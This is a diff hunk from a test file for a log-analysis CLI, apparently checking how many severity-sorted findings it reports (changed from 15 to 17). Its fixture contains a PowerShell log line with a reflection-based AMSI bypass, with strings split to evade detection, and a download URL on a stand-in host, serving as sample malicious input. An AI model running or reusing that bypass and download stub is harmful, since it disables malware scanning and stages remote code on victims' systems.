@@ -146,7 +146,7 @@ describe('svc analyze --format table', () => {
              ScriptBlockText: $u = 'http://cdn.freight-docs.example/lib/hpsvc' [Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$…`);
     const { out: story } = await svc('analyze', security, '--quiet');
     const severities = [...story.matchAll(/^ {2}(critical|high|medium|low) +\d/gm)].map(([, severity]) => severity);
-    expect(severities).toHaveLength(15);
+    expect(severities).toHaveLength(17);
     expect(severities).toEqual(severities.toSorted((a, b) => order.indexOf(a!) - order.indexOf(b!)));
   });
 
